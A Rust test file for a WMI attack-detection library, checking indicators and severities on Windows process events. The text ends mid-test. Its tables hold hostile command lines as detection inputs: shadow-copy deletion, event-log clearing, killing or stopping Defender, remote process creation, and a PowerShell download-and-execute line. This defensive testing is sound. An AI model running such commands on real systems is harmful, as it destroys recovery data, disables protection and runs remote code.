//! The predicates, on the shared vectors, on the labels of real events, and on rows of our own.
#![allow(
    clippy::indexing_slicing,
    clippy::panic,
    clippy::print_stdout,
    clippy::unwrap_used,
    reason = "tests fail so"
)]

mod common;

use std::collections::{BTreeMap, BTreeSet};

use common::{corpus, files, json_lines};
use serde_json::Value;
use wmi_events::detect::{
    Analysis, Baseline, BaselineAction, BaselineRule, Detection, Indicators, Severity,
};
use wmi_events::{Event, EventId, Record, System};

fn event(id: EventId, computer: &str, fields: &[(&'static str, &str)]) -> Event<'static> {
    let mut system = System::new(id);
    system.computer = Some(computer.to_owned().into());
    let mut record = Record::new(system);
    for (name, value) in fields {
        record.set(*name, (*value).to_owned());
    }
    record.into_event().unwrap().unwrap()
}

/// A 4688; an empty argument is a field that is absent.
fn process(image: &str, parent: &str, line: &str) -> Event<'static> {
    let fields = [
        ("NewProcessName", image),
        ("ParentProcessName", parent),
        ("CommandLine", line),
    ];
    let fields: Vec<_> = fields
        .into_iter()
        .filter(|(_, value)| !value.is_empty())
        .collect();
    event(EventId::PROCESS_CREATION, "WKS01.corp.example", &fields)
}

/// The answers that the vectors ask for.
fn answers(event: &Event<'_>) -> [(&'static str, Option<bool>); 7] {
    [
        ("remote_wmic", event.indicator(Indicators::REMOTE_WMIC)),
        (
            "wmic_process_create",
            event.indicator(Indicators::WMIC_PROCESS_CREATE),
        ),
        (
            "wmiprvse_child",
            event.indicator(Indicators::WMIPRVSE_CHILD),
        ),
        (
            "script_consumer_host",
            event.indicator(Indicators::SCRIPT_CONSUMER_HOST),
        ),
        ("mof_compiler", event.indicator(Indicators::MOF_COMPILER)),
        (
            "wmiexec_output_redirect",
            event.indicator(Indicators::WMIEXEC_OUTPUT_REDIRECT),
        ),
        ("wmic_xsl", event.indicator(Indicators::WMIC_XSL)),
    ]
}

#[test]
fn vectors() {
    let Some(corpus) = corpus() else { return };
    let rows = json_lines(&corpus.parent().unwrap().join("vectors.jsonl"));
    let mut count = 0;
    for row in &rows {
        let text = |key: &str| row[key].as_str().unwrap_or_default();
        let mut system = System::new(EventId::PROCESS_CREATION);
        system.computer = row["computer"].as_str().map(|name| name.to_owned().into());
        let mut record = Record::new(system);
        for (field, key) in [
            ("NewProcessName", "image"),
            ("ParentProcessName", "parent"),
            ("CommandLine", "command_line"),
        ] {
            if row[key].is_string() {
                record.set(field, text(key).to_owned());
            }
        }
        let event = record.into_event().unwrap().unwrap();
        for (name, answer) in answers(&event) {
            // `null`: the twin says unknown, the indicator is off.
            assert_eq!(answer, row["expect"][name].as_bool(), "{name}: {row}");
            let flag = Indicators::from_name(&name.to_uppercase()).unwrap();
            assert_eq!(
                event.indicators().contains(flag),
                answer == Some(true),
                "{name}: {row}"
            );
            count += 1;
        }
    }
    println!("{} rows, {count} answers", rows.len());
}

/// What a line of `labels/` and one of `expected/` on the same event have in common.
fn key(line: &Value) -> (Option<u64>, Option<u64>) {
    (line["line"].as_u64(), line["record_id"].as_u64())
}

/// The event of a line of `expected/`.
fn as_event(line: &Value) -> Event<'static> {
    let id = line["event_id"].as_u64().unwrap();
    let mut system = System::new(EventId::new(u16::try_from(id).unwrap()));
    system.computer = line["computer"].as_str().map(|name| name.to_owned().into());
    let mut record = Record::new(system);
    for (name, value) in line["data"].as_object().unwrap() {
        if let Some(value) = value.as_str() {
            record.set(name.clone(), value.to_owned());
        }
    }
    record.into_event().unwrap().unwrap()
}

/// Per label: how many events have it, how many of them are found, and how many more.
#[test]
fn labels_of_the_corpus() {
    let Some(corpus) = corpus() else { return };
    let labels = [
        "remote_wmic",
        "wmic_process_create",
        "wmiprvse_child",
        "wmiexec_output_redirect",
        "script_consumer_host",
        "mof_compiler",
        "wmic_xsl",
        "shadow_copy_delete",
        "default_subscription",
        "active_script_consumer",
        "command_line_consumer",
        "unusual_provider_path",
    ];
    let mut table: BTreeMap<&str, [usize; 3]> = BTreeMap::new();
    for file in files(&corpus.join("labels"), "jsonl") {
        // Values made by other parsers, of every shape: also those that this crate does not
        // read yet.
        let events = json_lines(&corpus.join("expected").join(file.file_name().unwrap()));
        let events: BTreeMap<_, _> = events.iter().map(|line| (key(line), line)).collect();
        for labelled in json_lines(&file) {
            let line = events
                .get(&key(&labelled))
                .unwrap_or_else(|| panic!("{labelled}"));
            let indicators = as_event(line).indicators();
            for label in labels {
                let is_labelled = labelled["labels"]
                    .as_array()
                    .unwrap()
                    .iter()
                    .any(|l| l == label);
                let is_found =
                    indicators.contains(Indicators::from_name(&label.to_uppercase()).unwrap());
                let counts = table.entry(label).or_default();
                counts[0] += usize::from(is_labelled);
                counts[1] += usize::from(is_labelled && is_found);
                counts[2] += usize::from(!is_labelled && is_found);
            }
        }
    }
    println!("label: labelled, found, found without the label");
    for (label, [labelled, found, more]) in &table {
        println!("{label}: {labelled}, {found}, {more}");
    }
    for (label, [labelled, found, more]) in table {
        assert_eq!((found, more), (labelled, 0), "{label}");
    }
}

/// Findings on real events in every format: no false positive that needs a review, and no finding at
/// all on the default activity of Windows.
#[test]
fn findings_of_the_corpus() {
    let Some(corpus) = corpus() else { return };
    let mut counts: BTreeMap<(&str, &str), [usize; 2]> = BTreeMap::new();
    for file in files(&corpus.join("labels"), "jsonl") {
        let events = json_lines(&corpus.join("expected").join(file.file_name().unwrap()));
        let labels: BTreeMap<_, _> = json_lines(&file)
            .into_iter()
            .map(|line| (key(&line), line))
            .collect();
        for line in &events {
            let event = as_event(line);
            // 5858 to 5860 have no labels; none of the corpus is part of an attack but for the
            // watches of the simulator's subscriptions, which are low.
            let labels = labels
                .get(&key(line))
                .and_then(|line| line["labels"].as_array());
            let is_attack = labels.is_some_and(|labels| !labels.is_empty());
            for finding in event.findings() {
                assert!(!finding.evidence.is_empty(), "{finding:?}");
                assert!(!event.is_default_subscription(), "{finding:?}");
                // The provider of an attack's script, which the labels leave out.
                // And the activation of its watches for Process Explorer.
                let is_known = finding.name() == "active_script_consumer_provider"
                    || finding.name() == "unknown_activation_on_trigger"
                        && finding.evidence[0].1.contains("procexp64.exe");
                let is_grave = finding.severity >= Severity::Medium;
                assert!(is_attack || is_known || !is_grave, "{finding:?}");
                let count = counts
                    .entry((finding.name(), finding.severity.name()))
                    .or_default();
                count[usize::from(!is_attack)] += 1;
            }
        }
    }
    println!("finding, severity: on events with a label, on the others");
    for ((name, severity), [labelled, others]) in counts {
        println!("{name}, {severity}: {labelled}, {others}");
    }
}

/// The indicators of an event, without those that only tell kinds apart.
fn signs(event: &Event<'_>) -> Vec<&'static str> {
    let kinds = Indicators::WMIC_LOCAL_QUERY | Indicators::WATCHES_TRIGGER;
    (event.indicators() - kinds).names().collect()
}

const WBEM: &str = r"C:\Windows\System32\wbem\";

/// Rows on attacks that are rarer.
fn more_processes() -> Vec<(
    &'static str,
    &'static str,
    &'static str,
    &'static [&'static str],
)> {
    const WMIC: &str = r"C:\Windows\System32\wbem\WMIC.exe";
    const WMIPRVSE: &str = r"C:\Windows\System32\wbem\WmiPrvSE.exe";
    const CMD: &str = r"C:\Windows\System32\cmd.exe";
    const SVCHOST: &str = r"C:\Windows\System32\svchost.exe";
    const POWERSHELL: &str = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe";
    vec![
        (
            WMIC,
            CMD,
            r#"wmic process call create "rundll32.exe C:\x.dll,a""#,
            &["wmic_process_create", "wmic_suspicious_process_create"],
        ),
        (
            WMIC,
            CMD,
            r#"wmic process call create "C:\x\a.txt:evil.exe""#,
            &[
                "wmic_process_create",
                "wmic_suspicious_process_create",
                "wmic_stream_execution",
            ],
        ),
        (
            WMIC,
            r"C:\inetpub\w3wp.exe",
            "wmic os get",
            &["wmic_from_server"],
        ),
        (
            WMIC,
            CMD,
            "wmic rdtoggle where ServerName='x' call SetAllowTSConnections 1",
            &["rdp_enable"],
        ),
        (
            WMIC,
            CMD,
            "wmic useraccount where name='x' set PasswordExpires=False",
            &["password_never_expires", "wmic_account_change"],
        ),
        (
            WMIC,
            CMD,
            r#"wmic ENVIRONMENT where "name='COR_PROFILER'" set VariableValue="{1}""#,
            &["profiler_hijack"],
        ),
        (
            WMIC,
            CMD,
            r"wmic datafile where name='C:\\a' call Copy C:\b",
            &["wmic_file_copy"],
        ),
        (
            WMIC,
            CMD,
            "wmic ntevent where LogFile='Security' list",
            &["wmic_event_log_query"],
        ),
        (
            WMIC,
            CMD,
            "wmic class StdRegProv call EnumKey x",
            &["wmic_registry_read"],
        ),
        (
            WMIC,
            CMD,
            r#"wmic process call create "reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v x""#,
            &[
                "wmic_process_create",
                "wmic_suspicious_process_create",
                "wmi_autorun_add",
            ],
        ),
        (
            r"C:\Windows\System32\whoami.exe",
            WMIPRVSE,
            "whoami /all",
            &["wmiprvse_child", "wmiprvse_discovery_child"],
        ),
        (WMIPRVSE, SVCHOST, "wmiprvse -Embedding", &[]),
        (WMIPRVSE, CMD, "wmiprvse", &["wmiprvse_unexpected_parent"]),
        (
            r"C:\Windows\System32\wbem\x.exe",
            SVCHOST,
            "x",
            &["unusual_wbem_image"],
        ),
        (
            CMD,
            SVCHOST,
            r"cmd.exe /C dir > \\10.0.0.5\s\x.txt 2>&1",
            &["share_output_redirect"],
        ),
        (
            POWERSHELL,
            CMD,
            "powershell.exe -NoP -NoL -sta -NonI -W Hidden -Exec Bypass -Enc AAAA",
            &["wmiexec_powershell_flags"],
        ),
        (
            r"C:\x\SharpMove.exe",
            CMD,
            "SharpMove.exe action=x",
            &["wmi_attack_tool"],
        ),
        (
            r"C:\x\nxc.exe",
            CMD,
            "nxc.exe wmi 10.0.0.5 -x whoami",
            &["wmi_attack_tool"],
        ),
        (r"C:\x\nxc.exe", CMD, "nxc.exe smb 10.0.0.5", &[]),
        (
            r"C:\Windows\System32\cscript.exe",
            CMD,
            "cscript winrm.vbs invoke Create wmicimv2/Win32_Process @{CommandLine=\"x\"} -r:http://a",
            &["winrm_wmi_create", "remote_winrm"],
        ),
        (
            r"C:\Windows\System32\schtasks.exe",
            CMD,
            "schtasks /create /tr \"wmic os get\"",
            &["scheduled_wmi"],
        ),
        (
            r"C:\Windows\System32\schtasks.exe",
            CMD,
            "schtasks /query",
            &[],
        ),
        (
            POWERSHELL,
            CMD,
            "powershell Invoke-WmiMethod -Class Win32_Process -Name Create -ArgumentList x",
            &["powershell_wmi_create"],
        ),
        (POWERSHELL, CMD, "powershell gwmi Win32_Process", &[]),
    ]
}

/// All that a 4688 shows, and no more.
#[test]
fn indicators_of_processes() {
    let wmic = format!("{WBEM}WMIC.exe");
    let wmiprvse = format!("{WBEM}WmiPrvSE.exe");
    let scrcons = format!("{WBEM}scrcons.exe");
    let cmd = r"C:\Windows\System32\cmd.exe";
    let powershell = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe";
    let svchost = r"C:\Windows\System32\svchost.exe";
    let table: Vec<(&str, &str, &str, &[&str])> = vec![
        (cmd, svchost, "cmd /c dir", &[]),
        ("", "", "", &[]),
        (&wmic, cmd, "", &[]),
        (&wmic, cmd, "wmic os get caption", &[]),
        (&wmic, cmd, "wmic /node:SRV01 os get", &["remote_wmic"]),
        (
            &wmic,
            cmd,
            r"wmic /node:SRV01 /user:a os get",
            &["remote_wmic", "wmic_credentialed"],
        ),
        ("", cmd, "wmic /node:SRV01 os get", &["remote_wmic"]),
        (&wmic, cmd, "wmic /user:a os get", &["wmic_credentialed"]),
        (
            &wmic,
            cmd,
            "wmic /node:SRV01 process call create x",
            &["remote_wmic", "wmic_process_create"],
        ),
        (&wmic, cmd, "wmic process list", &["wmic_process_recon"]),
        (&wmic, cmd, "wmic process", &["wmic_process_recon"]),
        (
            &wmic,
            cmd,
            "wmic path win32_process get name",
            &["wmic_process_recon"],
        ),
        (
            &wmic,
            cmd,
            "wmic process call create x",
            &["wmic_process_create"],
        ),
        (
            &wmic,
            cmd,
            "wmic process where name='x' delete",
            &["wmic_process_terminate"],
        ),
        (
            &wmic,
            cmd,
            "wmic process call terminate",
            &["wmic_process_terminate"],
        ),
        (&wmic, cmd, "wmic service get name", &["wmic_service_recon"]),
        (
            &wmic,
            cmd,
            "wmic service x call stopservice",
            &["wmic_service_control"],
        ),
        (
            &wmic,
            cmd,
            "wmic product get name",
            &["wmic_software_recon"],
        ),
        (&wmic, cmd, "wmic qfe", &["wmic_software_recon"]),
        (
            &wmic,
            cmd,
            "wmic product where name='x' call uninstall /nointeractive",
            &["wmic_product_uninstall"],
        ),
        (&wmic, cmd, "wmic useraccount list", &["wmic_account_recon"]),
        (&wmic, cmd, "wmic ntdomain list", &["wmic_domain_recon"]),
        (
            &wmic,
            cmd,
            r"wmic /namespace:\\root\directory\ldap path ds_user get ds_samaccountname",
            &["wmic_domain_recon"],
        ),
        (
            &wmic,
            cmd,
            r"wmic /namespace:\\root\SecurityCenter2 path AntiVirusProduct get displayName",
            &["wmic_security_product_recon"],
        ),
        (
            &wmic,
            cmd,
            r"wmic /namespace:\\root\Microsoft\Windows\Defender class MSFT_MpPreference call Add",
            &["wmic_defender_change"],
        ),
        (
            &wmic,
            cmd,
            "wmic class stdregprov call CreateKey x",
            &["wmic_registry_write"],
        ),
        (
            &wmic,
            cmd,
            "wmic class stdregprov call GetStringValue x",
            &["wmic_registry_read"],
        ),
        (
            &wmic,
            cmd,
            "wmic shadowcopy delete",
            &["shadow_copy_delete"],
        ),
        (
            &wmic,
            cmd,
            "wmic path Win32_ShadowCopy delete",
            &["shadow_copy_delete"],
        ),
        (
            &wmic,
            cmd,
            "wmic shadowcopy call create Volume='C:'",
            &["shadow_copy_create"],
        ),
        (&wmic, cmd, "wmic shadowcopy list", &[]),
        (
            &wmic,
            cmd,
            "wmic nteventlog where filename='x' call cleareventlog",
            &["event_log_clear"],
        ),
        (&wmic, cmd, "wmic nteventlog get name", &[]),
        (&wmic, cmd, "wmic os get /format:x.xsl", &["wmic_xsl"]),
        (&wmic, cmd, "wmic ᵒs get", &["wmic_obfuscated"]),
        (
            &wmic,
            cmd,
            r#"wmic /NAMESPACE:"\\root\subscription" PATH CommandLineEventConsumer CREATE Name="x""#,
            &["wmic_subscription_create"],
        ),
        (
            &wmic,
            r"C:\Office\WINWORD.EXE",
            "wmic os get",
            &["wmic_from_office"],
        ),
        (
            r"C:\Temp\wmic.exe",
            cmd,
            "wmic os get",
            &["wmi_binary_masquerading"],
        ),
        (
            r"C:\Temp\s.exe",
            cmd,
            "s.exe /node:SRV01 process call create x",
            &["wmic_renamed", "wmic_renamed_attack"],
        ),
        (r"C:\Temp\s.exe", cmd, "s.exe process", &[]),
        (
            cmd,
            &wmiprvse,
            "cmd /c dir",
            &["wmiprvse_child", "wmiprvse_shell_child"],
        ),
        (
            cmd,
            &wmiprvse,
            r"cmd.exe /Q /c dir 1> \\127.0.0.1\ADMIN$\__1.2 2>&1",
            &[
                "wmiprvse_child",
                "wmiexec_output_redirect",
                "wmiprvse_shell_child",
                "share_output_redirect",
                "command_output_captured",
            ],
        ),
        (
            r"C:\Windows\System32\rundll32.exe",
            &wmiprvse,
            "x",
            &["wmiprvse_child", "wmiprvse_lolbin_child"],
        ),
        (
            r"C:\Windows\System32\werfault.exe",
            &wmiprvse,
            "x",
            &["wmiprvse_child"],
        ),
        (cmd, r"C:\Temp\WmiPrvSE.exe", "cmd", &[]),
        (
            &scrcons,
            svchost,
            "scrcons.exe -Embedding",
            &["script_consumer_host"],
        ),
        (
            r"C:\Temp\scrcons.exe",
            svchost,
            "x",
            &["wmi_binary_masquerading"],
        ),
        (
            powershell,
            &scrcons,
            "powershell",
            &["script_consumer_child"],
        ),
        (
            r"C:\Windows\System32\calc.exe",
            &wmic,
            "calc",
            &["wmic_child"],
        ),
        (
            r"C:\Windows\System32\wbem\mofcomp.exe",
            svchost,
            r"mofcomp C:\x\a.mof",
            &["mof_compiler"],
        ),
        (
            r"C:\Windows\System32\wbem\mofcomp.exe",
            cmd,
            r"mofcomp a.mof",
            &["mof_compiler", "mof_compiler_suspicious"],
        ),
        (
            r"C:\Windows\System32\wbem\wbemtest.exe",
            cmd,
            "wbemtest",
            &["wbemtest"],
        ),
        (
            powershell,
            cmd,
            "powershell gwmi Win32_ShadowCopy | % { $_.Delete() }",
            &["shadow_copy_delete"],
        ),
        (powershell, cmd, "powershell gwmi Win32_ShadowCopy", &[]),
        (
            powershell,
            cmd,
            "powershell (gwmi Win32_NTEventlogFile).ClearEventlog()",
            &["event_log_clear"],
        ),
    ];
    let all_rows: Vec<_> = table.into_iter().chain(more_processes()).collect();
    let mut wrong = Vec::new();
    for (image, parent, line, expected) in all_rows {
        let event = process(image, parent, line);
        if signs(&event) != expected {
            wrong.push(format!(
                "{image} {parent} {line}: {:?}, not {expected:?}",
                signs(&event)
            ));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
    // An event without an indicator is not looked at.
    assert!(Detection::all().iter().all(|d| !d.when.is_empty()));
}

/// Of several overlapping detections, only the most severe one fires.
#[test]
fn findings() {
    let wmic = format!("{WBEM}WMIC.exe");
    let wmiprvse = format!("{WBEM}WmiPrvSE.exe");
    let cmd = r"C:\Windows\System32\cmd.exe";
    type Row<'r> = (&'r str, &'r str, &'r str, &'r [(&'r str, Severity)]);
    let table: Vec<Row<'_>> = vec![
        (cmd, cmd, "cmd /c dir", &[]),
        (
            &wmic,
            cmd,
            "wmic /node:A /user:b /password:SECRET process call create x",
            &[("remote_wmic_process_create", Severity::High)],
        ),
        (
            &wmic,
            cmd,
            "wmic /node:A os get",
            &[("remote_wmic", Severity::Medium)],
        ),
        (
            cmd,
            &wmiprvse,
            r"cmd.exe /Q /c dir 1> \\127.0.0.1\ADMIN$\__1.2 2>&1",
            &[("wmiexec_output_redirect", Severity::High)],
        ),
        (
            cmd,
            &wmiprvse,
            "cmd",
            &[("wmiprvse_shell_child", Severity::Medium)],
        ),
        (
            r"C:\x\y.exe",
            &wmiprvse,
            "y",
            &[("wmiprvse_unprotected_child", Severity::Medium)],
        ),
        (
            r"C:\Windows\System32\powercfg.exe",
            &wmiprvse,
            "powercfg -list",
            &[("wmiprvse_child", Severity::Low)],
        ),
        (
            r"C:\Windows\System32\WerFault.exe",
            &wmiprvse,
            "WerFault",
            &[],
        ),
        (&wmiprvse, &wmiprvse, "wmiprvse -Embedding", &[]),
        (
            r"C:\Temp\WerFault.exe",
            &wmiprvse,
            "WerFault",
            &[("wmiprvse_unprotected_child", Severity::Medium)],
        ),
        (
            r"C:\Windows\System32\msiexec.exe",
            &wmiprvse,
            r"msiexec.exe /i C:\Windows\ccmcache\1\a.msi /qn",
            &[("wmiprvse_lolbin_child", Severity::High)],
        ),
    ];
    for (image, parent, line, expected) in table {
        let event = process(image, parent, line);
        let found: Vec<_> = event.findings().map(|f| (f.name(), f.severity)).collect();
        assert_eq!(found, expected, "{image} {parent} {line}");
        let json = serde_json::to_string(&event.findings().collect::<Vec<_>>()).unwrap();
        assert!(!json.contains("SECRET"), "{json}");
    }
}

/// Answers that were wrong once.
#[test]
fn answers_that_were_wrong() {
    let wmic = format!("{WBEM}WMIC.exe");
    let wmiprvse = format!("{WBEM}WmiPrvSE.exe");
    let mofcomp = format!("{WBEM}mofcomp.exe");
    let cmd = r"C:\Windows\System32\cmd.exe";
    let powershell = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe";
    let create = |line: &str| format!("wmic process call create \"{line}\"");
    let job = create(r"C:\Tools\job.exe /at 10:30");
    let port = create(r"C:\Program Files\Contoso\client.exe server01:8443");
    let blanks = create(r"C:\my files\a.txt:evil.exe");
    let dir = create(r"cmd.exe /c dir C:\Logs");
    let echo = create(r"cmd.exe /c echo x > C:\Users\Public\a.bat");
    let ftp = create(r"ftp.exe -s:C:\ProgramData\a.txt");
    let hive = r"wmic /namespace:\\root\default class StdRegProv call";
    let enumerated =
        format!(r#"{hive} EnumValues sSubKeyName="SOFTWARE\Microsoft\Windows\CurrentVersion\Run""#);
    let runtime =
        format!(r#"{hive} SetStringValue sSubKeyName="SOFTWARE\Contoso\CurrentVersion\Runtime""#);
    let once = format!(
        r#"{hive} SetStringValue sSubKeyName="SOFTWARE\Microsoft\Windows\CurrentVersion\RunOnce""#
    );
    let table: &[(&str, &str, &str, &str, bool)] = &[
        (&wmic, cmd, &job, "wmic_stream_execution", false),
        (&wmic, cmd, &port, "wmic_stream_execution", false),
        (&wmic, cmd, &blanks, "wmic_stream_execution", true),
        (&wmic, cmd, &dir, "wmic_suspicious_process_create", false),
        (&wmic, cmd, &echo, "wmic_suspicious_process_create", true),
        (&wmic, cmd, &ftp, "wmic_suspicious_process_create", true),
        (&wmic, cmd, &enumerated, "wmi_autorun_add", false),
        (&wmic, cmd, &runtime, "wmi_autorun_add", false),
        (&wmic, cmd, &once, "wmi_autorun_add", true),
        (
            &wmic,
            cmd,
            "wmic service where name='MSSQLSERVER' call changestartmode Automatic",
            "wmic_critical_service_stop",
            false,
        ),
        (
            &wmic,
            cmd,
            "wmic service where name='MSSQLSERVER' call changestartmode Disabled",
            "wmic_critical_service_stop",
            true,
        ),
        (
            &wmic,
            cmd,
            "wmic service where name='AudioEndpointBuilder' call stopservice",
            "wmic_critical_service_stop",
            false,
        ),
        (
            &wmic,
            cmd,
            "wmic product where name='Contoso Endpoint Printer' call uninstall",
            "wmic_security_product_uninstall",
            false,
        ),
        (
            &wmic,
            cmd,
            "wmic environment where name='COR_PROFILER' delete",
            "profiler_hijack",
            false,
        ),
        (
            &wmic,
            cmd,
            "wmic nicconfig where Index=7 call /?",
            "wmic_network_change",
            false,
        ),
        (
            &wmic,
            cmd,
            r"wmic /namespace:\\root\microsoft\windows\defender class MSFT_MpSignature call Update",
            "wmic_defender_change",
            false,
        ),
        (
            r"C:\Windows\System32\msiexec.exe",
            cmd,
            "msiexec.exe /i agent.msi COMPUTERNAME=WKS07 ACTION=INSTALL",
            "wmi_attack_tool",
            false,
        ),
        (
            r"C:\t\a.exe",
            cmd,
            "a.exe action=create computername=SRV01 command=calc",
            "wmi_attack_tool",
            true,
        ),
        (
            r"C:\Python\python.exe",
            cmd,
            r"python.exe C:\Repo\tests\test_wmiquery_report.py",
            "wmi_attack_tool",
            false,
        ),
        (
            r"C:\Python\python.exe",
            cmd,
            r"python.exe C:\t\wmiexec.py a@10.0.0.5",
            "wmi_attack_tool",
            true,
        ),
        (
            r"C:\Windows\System32\cscript.exe",
            cmd,
            "cscript winrm.vbs invoke StartService wmicimv2/Win32_Service?Name=Spooler @{} -r:http://FILE02",
            "winrm_wmi_create",
            false,
        ),
        (
            r"C:\Windows\System32\schtasks.exe",
            cmd,
            r#"schtasks /change /tn "Old wmic job" /disable"#,
            "scheduled_wmi",
            false,
        ),
        (
            r"C:\Windows\System32\schtasks.exe",
            cmd,
            r#"schtasks /create /tn Doc /tr "notepad.exe C:\Docs\wmic.exe.txt""#,
            "scheduled_wmi",
            false,
        ),
        (
            r"C:\Windows\System32\schtasks.exe",
            cmd,
            r#"schtasks /create /tn Doc /tr "cmd /c wmic os get""#,
            "scheduled_wmi",
            true,
        ),
        (
            cmd,
            cmd,
            r"cmd.exe /c C:\Scripts\a.cmd > \\.\C:\Logs\a.log 2>&1",
            "share_output_redirect",
            false,
        ),
        (
            &wmiprvse,
            r"C:\Users\Public\svchost.exe",
            "WmiPrvSE.exe",
            "wmiprvse_unexpected_parent",
            true,
        ),
        (
            &mofcomp,
            r"C:\Windows\System32\svchost.exe",
            r"mofcomp.exe C:\Users\Public\a.mof",
            "mof_compiler_suspicious",
            true,
        ),
        (
            &mofcomp,
            r"C:\Windows\System32\msiexec.exe",
            r"mofcomp.exe C:\Windows\Temp\a.mof",
            "mof_compiler_suspicious",
            false,
        ),
        (
            cmd,
            &wmiprvse,
            "cmd.exe /c start \"\" conhost --headless calc",
            "wmiprvse_suspicious_child",
            true,
        ),
        (
            r"C:\Windows\System32\taskkill.exe",
            &wmiprvse,
            "taskkill /f /im MsMpEng.exe",
            "wmi_sensitive_command",
            true,
        ),
        (
            r"C:\Windows\System32\taskkill.exe",
            &wmiprvse,
            "taskkill /f /im excel.exe",
            "wmi_sensitive_command",
            false,
        ),
        (
            &wmic,
            cmd,
            "wmic process where name='CSFalconService.exe' delete",
            "wmic_security_process_terminate",
            true,
        ),
        (
            powershell,
            &wmiprvse,
            "powershell -c IEX (New-Object Net.WebClient).DownloadString('http://x/')",
            "wmiprvse_suspicious_child",
            true,
        ),
        (
            powershell,
            &wmiprvse,
            r"powershell -File C:\Users\Public\a.ps1",
            "wmiprvse_suspicious_child",
            true,
        ),
        (
            powershell,
            cmd,
            "powershell (gwmi Win32_Product -Filter \\\"name like 'Sophos%'\\\").Uninstall()",
            "powershell_wmi_tampering",
            true,
        ),
        (
            powershell,
            cmd,
            "powershell (gwmi Win32_Product -Filter \\\"name='Contoso Reader'\\\").Uninstall()",
            "powershell_wmi_tampering",
            false,
        ),
        (
            powershell,
            cmd,
            "powershell gcim Win32_Service -Filter \\\"name='WinDefend'\\\" | icim -MethodName StopService",
            "powershell_wmi_tampering",
            true,
        ),
        (
            powershell,
            cmd,
            "powershell gcim Win32_Service -Filter \\\"name='WinDefend'\\\"",
            "powershell_wmi_tampering",
            false,
        ),
        (
            powershell,
            cmd,
            "powershell -c $s = New-CimSession; Get-CimInstance Win32_Process -CimSession $s",
            "powershell_remote_wmi",
            false,
        ),
        (
            powershell,
            cmd,
            "powershell -c Invoke-WmiMethod -ComputerName $h -Class Win32_Process -Name Create -ArgumentList a",
            "powershell_remote_process_create",
            true,
        ),
    ];
    let wrong: Vec<_> = table
        .iter()
        .filter(|(image, parent, line, name, expected)| {
            let flag = Indicators::from_name(&name.to_uppercase()).unwrap();
            process(image, parent, line).indicators().contains(flag) != *expected
        })
        .map(|(_, _, line, name, _)| format!("{name}: {line}"))
        .collect();
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

/// From another computer, by the user that was authenticated; not a service's own child.
#[test]
fn inbound_execution() {
    let wmiprvse = format!("{WBEM}WmiPrvSE.exe");
    let run = |user: &str, sid: &str, logon: &str, label: &str| {
        let fields = [
            ("NewProcessName", r"C:\x\y.exe"),
            ("ParentProcessName", wmiprvse.as_str()),
            ("CommandLine", "y"),
            ("TargetUserName", user),
            ("TargetUserSid", sid),
            ("TargetLogonId", logon),
            ("MandatoryLabel", label),
        ];
        event(EventId::PROCESS_CREATION, "SRV01", &fields).indicator(Indicators::INBOUND_WMI_EXEC)
    };
    let domain_user = "S-1-5-21-1-2-3-1104";
    let table = [
        ("adm", domain_user, "0x9be2f1", "S-1-16-12288", true),
        ("adm", "S-1-0-0", "0x9be2f1", "S-1-16-12288", true),
        ("adm", domain_user, "0x9be2f1", "S-1-16-16384", false),
        ("-", "S-1-0-0", "0x0", "S-1-16-16384", false),
        ("LOCAL SERVICE", "S-1-5-19", "0x3e5", "S-1-16-16384", false),
        ("SYSTEM", "S-1-5-18", "0x3e7", "S-1-16-12288", false),
    ];
    for (user, sid, logon, label, expected) in table {
        assert_eq!(
            run(user, sid, logon, label),
            Some(expected),
            "{user} {sid} {logon} {label}"
        );
    }
    // Before version 2 no one says.
    assert_eq!(
        process(r"C:\x\y.exe", &wmiprvse, "y").indicator(Indicators::INBOUND_WMI_EXEC),
        None
    );
}

/// The process alone answers what does not take the name of its computer.
#[test]
fn predicates_on_the_process() {
    let event = process(r"C:\x\y.exe", &format!("{WBEM}WmiPrvSE.exe"), "y");
    let wmi_events::Payload::ProcessCreation(process) = &event.payload else {
        unreachable!()
    };
    assert!(Analysis::of_process(process).indicator(Indicators::WMIPRVSE_CHILD) == Some(true));
    assert_eq!(
        Analysis::of_process(process).indicator(Indicators::MOF_COMPILER),
        Some(false)
    );
}

#[test]
fn baselines() {
    let event = process(
        r"C:\agent\a.exe",
        &format!("{WBEM}WmiPrvSE.exe"),
        "a.exe -x",
    );
    let mut rule = BaselineRule::new(
        "wmiprvse_unprotected_child",
        BaselineAction::Suppress,
        "our agent",
    );
    rule.fields
        .insert("NewProcessName".into(), r"c:\AGENT\*.exe".into());
    let check = |rule: &BaselineRule| {
        let baseline = Baseline::new(vec![rule.clone()]).and(Baseline::windows());
        let findings: Vec<_> = baseline.assess(&Analysis::new(&event)).collect();
        let finding = findings.first().unwrap();
        let reason = finding.suppression.as_ref().map(|rule| rule.reason.clone());
        (finding.severity, finding.is_suppressed(), reason)
    };
    let reason = Some("our agent".to_owned());
    assert_eq!(check(&rule), (Severity::Medium, true, reason.clone()));
    rule.action = BaselineAction::Downgrade(Severity::Low);
    assert_eq!(check(&rule), (Severity::Low, false, reason.clone()));
    // A rule never raises a severity.
    rule.action = BaselineAction::Downgrade(Severity::Critical);
    assert_eq!(check(&rule), (Severity::Medium, false, reason));
    // Every field must be there and fit.
    rule.fields.insert("CommandLine".into(), "b*".into());
    assert_eq!(check(&rule), (Severity::Medium, false, None));
    rule.fields.remove("CommandLine");
    rule.fields.insert("TargetUserName".into(), "*".into());
    assert_eq!(check(&rule), (Severity::Medium, false, None));

    let json = serde_json::to_string(Baseline::windows()).unwrap();
    assert_eq!(
        &serde_json::from_str::<Baseline>(&json).unwrap(),
        Baseline::windows()
    );
    for wrong in [
        r#"[{"finding": "x", "action": "suppress", "reason": "y", "felds": {}}]"#,
        // A rule says what it does.
        r#"[{"finding": "x", "reason": "y"}]"#,
        r#"[{"finding": "x", "action": "downgrade", "reason": "y"}]"#,
        r#"[{"finding": "x", "action": {"downgrade": "lower"}, "reason": "y"}]"#,
    ] {
        assert!(serde_json::from_str::<Baseline>(wrong).is_err(), "{wrong}");
    }
    // A rule without conditions disables a finding, or sets its severity.
    let disabled = BaselineRule::new(
        "wmiprvse_unprotected_child",
        BaselineAction::Suppress,
        "not of interest",
    );
    assert!(check(&disabled).1);
    let raised = BaselineRule::new(
